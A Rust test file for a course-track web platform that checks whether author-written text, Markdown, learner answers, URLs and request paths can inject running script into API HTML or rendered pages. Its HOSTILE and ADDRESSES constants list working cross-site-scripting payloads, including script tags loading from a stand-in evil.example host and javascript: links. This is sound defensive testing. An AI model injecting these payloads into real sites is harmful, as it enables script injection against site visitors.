//! Hostile strings of well-known collections, through everything that authors write and learners type: as
//! the API's HTML, as plain pages, and read as browsers read them, tag by tag.

use std::cell::RefCell;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::states::{RawKind, Rcdata};
use html5ever::tokenizer::{BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer};
use jalon_backend::clock::Clock;
use jalon_tests::{Stage, TestServer, for_both, small_track};
use serde_json::{Value, json};
use url::Url;
use uuid::Uuid;

/// Each ran somewhere, in somebody's page.
pub(super) const HOSTILE: [&str; 34] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</jalon-track></main><script src=//evil.example/x.js></script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "` onclick=`alert(1)",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/)",
    "![x](x\"onerror=\"alert(1))",
    "![x](https://e.example/a.png \"\\\" onerror=\\\"alert(1)\")",
    "![x\" onerror=\"alert(1)](https://e.example/a.png)",
    "<javascript:alert(1)>",
    "<https://e.example/\"onmouseover=\"alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<style>@import'//evil.example/x.css';</style><base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "\u{202e}<scr\u{200b}ipt>alert(1)</scr\u{200b}ipt>{{constructor.constructor('alert(1)')()}}${alert(1)}",
];

/// Addresses that must not stand in a page.
pub(super) const ADDRESSES: [&str; 13] = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "/relative",
    "https://e.example/\" onerror=\"alert(1)",
    "https://e.example/><script>alert(1)</script>",
    "https://user:word@e.example/",
    "https:\\\\e.example\\x",
    "blob:https://e.example/1",
];

/// A tag's name, and its attributes.
type Tag = (String, Vec<(String, String)>);

/// A page as a browser reads it: its tags with their attributes, and its text.
#[derive(Default)]
pub(super) struct Read {
    tags: RefCell<Vec<Tag>>,
    pub(super) text: RefCell<String>,
}

impl TokenSink for Read {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) if tag.kind == TagKind::StartTag => {
                let attributes =
                    tag.attrs.iter().map(|one| (one.name.local.to_string(), one.value.to_string())).collect();
                self.tags.borrow_mut().push((tag.name.to_string(), attributes));
                // What a parser tells its tokenizer of these.
                match &*tag.name {
                    "title" | "textarea" => return TokenSinkResult::RawData(Rcdata),
                    "script" => return TokenSinkResult::RawData(RawKind::ScriptData),
                    "style" | "iframe" | "noscript" => return TokenSinkResult::RawData(RawKind::Rawtext),
                    _ => {}
                }
            }
            Token::CharacterTokens(text) => self.text.borrow_mut().push_str(&text),
            Token::CommentToken(text) => self.tags.borrow_mut().push((format!("!--{text}"), Vec::new())),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

pub(super) fn read(html: &str) -> Read {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let tokenizer = Tokenizer::new(Read::default(), html5ever::tokenizer::TokenizerOpts::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink
}

/// What Markdown may become.
const RICH: &str =
    "p br hr h3 h4 h5 h6 em strong del code pre blockquote ul ol li a img table thead tbody tr th td sup sub";
/// What a plain page is made of besides.
const PAGE: &str = "html head meta title link script body header main jalon-track h1 h2 small div video track";

/// What there is in this HTML that could run, be sent or be fetched from where it must not; nothing, if all is well.
pub(super) fn harm(html: &str, page: bool) -> Vec<String> {
    let mut harm = Vec::new();
    for (tag, attributes) in read(html).tags.borrow().iter() {
        let known = RICH.split(' ').any(|known| known == tag) || page && PAGE.split(' ').any(|known| known == tag);
        if !known {
            harm.push(format!("<{tag}>"));
        }
        let get =
            |name: &str| attributes.iter().find(|(known, _)| known == name).map_or("", |(_, value)| value.as_str());
        let sound = match tag.as_str() {
            "script" => get("src") == "/embed/v1/jalon.js",
            "link" => get("rel") == "stylesheet" && get("href") == "/t/page.css",
            _ => true,
        };
        if !sound {
            harm.push(format!("<{tag} {attributes:?}>"));
        }
        for (name, value) in attributes {
            let address = matches!(name.as_str(), "href" | "src" | "poster");
            let plain =
                "alt title lang dir start width height rel target loading".split(' ').any(|known| known == name);
            let of_page = page
                && "charset name content async class site track controls preload crossorigin kind srclang label"
                    .split(' ')
                    .any(|known| known == name);
            // As a browser does: white space is dropped, what is relative is the page's own.
            let goes = |value: &str| Url::parse("https://own.example/").unwrap().join(value);
            let leads = goes(value).is_ok_and(|url| matches!(url.scheme(), "https" | "mailto"));
            let whole = page || value.starts_with("https://") || value.starts_with("mailto:");
            if !(address && leads && whole || plain || of_page) {
                harm.push(format!("{name}={value:?} in <{tag}>"));
            }
        }
    }
    harm
}

/// What the API gives out as HTML in an answer: every text in a language but titles, summaries and names.
fn html_in<'v>(answer: &'v Value, name: &str, found: &mut Vec<&'v str>) {
    match answer {
        Value::Array(items) => items.iter().for_each(|item| html_in(item, name, found)),
        Value::Object(fields) => {
            if let (Some(value), true) = (fields.get("value").and_then(Value::as_str), fields.contains_key("lang")) {
                if !matches!(name, "title" | "summary") {
                    found.push(value);
                }
                return;
            }
            fields.iter().for_each(|(name, value)| html_in(value, name, found));
        }
        _ => {}
    }
}

/// A track that says this in everything that is plain text, and that in everything that is Markdown.
fn track(plain: &str, rich: &str) -> Value {
    let (plain, rich) = (json!({ "fr": plain }), json!({ "fr": rich }));
    let choices = json!([{ "key": "a", "text": rich, "feedback": rich }, { "key": "b", "text": rich, "feedback": rich, "right": true }]);
    let items = json!([{ "key": "1", "text": rich }, { "key": "2", "text": rich }]);
    let pairs = json!([{ "key": "1", "left": rich, "right": rich }, { "key": "2", "left": rich, "right": rich }]);
    json!({
        "track_type": "beginner_intro", "source_lang": "fr", "cms_block_enabled": true, "title": plain, "summary": plain,
        "steps": [
            { "key": "quiz", "kind": "quiz", "required": false, "title": plain, "quiz": { "reveal": "after_attempt", "questions": [
                { "key": "q1", "kind": "single_choice", "prompt": rich, "feedback": rich, "choices": choices },
                { "key": "q2", "kind": "multiple_choice", "prompt": rich, "feedback": rich, "choices": choices },
                { "key": "q3", "kind": "short_text", "prompt": rich, "feedback": rich, "accept": plain["fr"].as_str().map(|text| json!({ "fr": [text] })) },
                { "key": "q4", "kind": "ordering", "prompt": rich, "items": items },
                { "key": "q5", "kind": "matching", "prompt": rich, "pairs": pairs },
                { "key": "q6", "kind": "true_false", "prompt": rich, "feedback": rich, "right": true } ] } },
            { "key": "read", "kind": "content", "required": false, "title": plain, "body": rich },
        ]
    })
}

/// Puts and publishes it; false where it is refused as the author's mistake.
async fn published(stage: &Stage, track: &Value) -> bool {
    let path = "/api/v1/admin/sites/fpsf/tracks/first";
    let put = stage.server.put(path).bearer(&stage.key).json(track).send().await;
    if put.status == 422 {
        let codes =
            put.json()["errors"].as_array().unwrap().iter().map(|error| error["code"].to_string()).collect::<Vec<_>>();
        assert!(
            codes.iter().all(|code| ["\"unsafe_url\"", "\"invalid_value\""].contains(&code.as_str())),
            "{}",
            put.text()
        );
        return false;
    }
    assert!(put.status.is_success(), "{}", put.text());
    stage.server.post(&format!("{path}/publish")).bearer(&stage.key).send().await.expect(200);
    true
}

/// Reads the track and all that follows from answering it with this text; answers all HTML in it.
async fn learn(stage: &Stage, typed: &str) -> Vec<String> {
    let member = stage
        .member_of(Stage::SITE, json!({ "sub": Uuid::now_v7(), "name": typed, "email": typed, "cohorts": [typed] }));
    let enrollment = stage.enroll(&member, "first").await;
    let place = format!("/api/v1/enrollments/{}/steps", enrollment["id"].as_str().unwrap());
    let quiz = stage.server.get(&format!("{place}/1")).bearer(&member).send().await.expect(200);
    let answers: Vec<Value> = quiz["quiz"]["questions"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|question| {
            let first = question["choices"][0]["id"].clone();
            match question["kind"].as_str().unwrap() {
                "single_choice" | "multiple_choice" => {
                    Some(json!({ "question_id": question["id"], "choice_ids": [first] }))
                }
                "short_text" => Some(json!({ "question_id": question["id"], "text": typed })),
                _ => None,
            }
        })
        .collect();
    let advanced = stage
        .server
        .post(&format!("{place}/1/advance"))
        .bearer(&member)
        .key(Uuid::now_v7())
        .json(&json!({ "answers": answers }))
        .send()
        .await;
    let mut all = vec![quiz, advanced.expect(200)];
    for path in [
        format!("{place}/1"),
        format!("{place}/2"),
        "/api/v1/sites/fpsf/me/enrollments".to_owned(),
        "/api/v1/sites/fpsf/tracks/first".to_owned(),
        "/api/v1/sites/fpsf/tracks".to_owned(),
        "/api/v1/sites/fpsf".to_owned(),
        "/api/v1/sites/fpsf/me/export".to_owned(),
        "/api/v1/sites/fpsf/tracks/first/steps/2".to_owned(),
    ] {
        let answer = stage.server.get(&path).bearer(&member).send().await;
        assert_eq!(
            (answer.header("content-type"), answer.header("x-content-type-options")),
            ("application/json", "nosniff"),
            "{path}"
        );
        all.push(answer.expect(200));
    }
    let mut found = Vec::new();
    for answer in &all {
        html_in(answer, "", &mut found);
    }
    found.into_iter().map(str::to_owned).collect()
}

for_both! {
    async fn p5_no_text_of_an_author_or_a_learner_runs_in_a_page(db: TestDb) {
        let stage = Stage::set(&db).await;
        let (mut taken, mut html_seen) = (0, 0);
        for hostile in HOSTILE {
            let name = json!({ "name": hostile.replace('\n', " ") });
            stage.server.patch("/api/v1/admin/sites/fpsf").bearer(&stage.key).json(&name).send().await.expect(200);
            // In plain text and as an answer, where all is taken: it is shown as it was typed.
            let plain = hostile.replace('\n', " ");
            assert!(published(&stage, &track(&plain, "Rien.")).await, "{plain} is a title like any other");
            for html in learn(&stage, &plain).await {
                assert!(harm(&html, false).is_empty() && read(&html).text.borrow().contains("Rien"), "{plain}: {html}");
            }
            let shown = stage.server.get("/api/v1/sites/fpsf/tracks/first").send().await.expect(200);
            assert_eq!((&shown["title"]["value"], &shown["steps"][1]["title"]["value"]), (&json!(plain), &json!(plain)));
            let page = stage.server.get("/t/fpsf/first").send().await;
            assert_eq!(harm(&page.text(), true), Vec::<String>::new(), "{plain}:\n{}", page.text());
            let seen = read(&page.text());
            // The site's name; the title in the head and in the page; the summary; two steps.
            assert_eq!(seen.text.borrow().matches(&plain).count(), 6, "{plain}:\n{}", page.text());
            assert!(seen.tags.borrow().iter().any(|(tag, all)| tag == "meta" && all.contains(&("content".to_owned(), plain.clone()))));

            // As Markdown: refused, or harmless.
            if published(&stage, &track("Un titre", hostile)).await {
                taken += 1;
                let all = learn(&stage, "rien").await;
                html_seen += all.len();
                for html in all {
                    assert_eq!(harm(&html, false), Vec::<String>::new(), "{hostile}:\n{html}");
                }
                let page = stage.server.get("/t/fpsf/first").send().await.text();
                assert_eq!(harm(&page, true), Vec::<String>::new(), "{hostile}:\n{page}");
            }
        }
        assert!(taken > 20 && html_seen > 500, "{taken} {html_seen}");
    }

    async fn p5_no_address_that_runs_or_leads_astray_is_taken(db: TestDb) {
        let stage = Stage::set(&db).await;
        let path = "/api/v1/admin/sites/fpsf";
        for address in ADDRESSES {
            let step = |kind: &str, field: &str, what: Value| {
                let mut step = json!({ "key": "s", "kind": kind, "required": false, "title": { "fr": "x" } });
                step[field] = what;
                let mut track = small_track();
                track["steps"] = json!([step]);
                track
            };
            for track in [
                step("link", "url", json!(address)),
                step("video", "video", json!({ "url": address, "duration_seconds": 1 })),
                step("video", "video", json!({ "url": "https://e.example/v.mp4", "duration_seconds": 1, "poster": address })),
                step("video", "video", json!({ "url": "https://e.example/v.mp4", "duration_seconds": 1, "captions": { "fr": address } })),
            ] {
                let put = stage.server.put(&format!("{path}/tracks/first")).bearer(&stage.key).json(&track).send().await;
                assert_eq!(put.status, 422, "{address:?} in {}: {}", track["steps"][0], put.text());
            }
            for change in [json!({ "login_url": address }), json!({ "origins": [address] }), json!({ "look": { "font": format!("x;}}{address}") } }), json!({ "look": { "accent": address } })] {
                let refused = stage.server.patch(path).bearer(&stage.key).json(&change).send().await;
                assert_eq!(refused.status, 422, "{change}: {}", refused.text());
            }
        }
    }

    /// What is in an address comes back in no page: not the path, not the language.
    async fn p5_nothing_of_an_address_is_in_a_page(db: TestDb) {
        let stage = Stage::set(&db).await;
        stage.publish("first", &small_track()).await;
        for hostile in HOSTILE {
            let coded: String = hostile.bytes().map(|byte| format!("%{byte:02X}")).collect::<Vec<_>>().concat();
            for path in [format!("/t/fpsf/{coded}"), format!("/t/{coded}/first"), format!("/t/fpsf/first?lang={coded}"), format!("/problems/{coded}"), format!("/embed/v1/{coded}"), format!("/{coded}"), format!("/api/v1/sites/{coded}")] {
                let request = stage.server.get(&path);
                let answer = if hostile.is_ascii() && !hostile.contains('\n') { request.header("accept-language", hostile).header("origin", "null") } else { request }.send().await;
                let kind = answer.header("content-type").to_owned();
                if kind.starts_with("text/html") {
                    assert_eq!(harm(&answer.text(), true), Vec::<String>::new(), "{path}");
                    assert!(answer.header("content-security-policy").contains("default-src 'none'"), "{path}");
                    assert!(!read(&answer.text()).text.borrow().contains("alert"), "{path}: {}", answer.text());
                } else {
                    assert_eq!((kind.as_str(), answer.header("x-content-type-options")), ("application/problem+json", "nosniff"), "{path}");
                }
            }
        }
    }

    /// An author's picture from a visitor's own machine would knock at ports there.
    async fn p5_plain_pages_reach_the_visitors_machine_in_development_only(db: TestDb) {
        let policy = async |development| {
            let server = TestServer::start_with(&db, Clock::system(), |config| config.development = development).await;
            let policy = server.get("/t/none/none").send().await.header("content-security-policy").to_owned();
            server.stop().await;
            for directive in ["default-src 'none'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'", "script-src 'self' 'wasm-unsafe-eval';"] {
                assert!(policy.contains(directive), "{policy}");
            }
            policy
        };
        assert!(policy(true).await.contains("http://127.0.0.1:*"), "the demo's pictures");
        assert!(!policy(false).await.contains("http:"));
    }
}
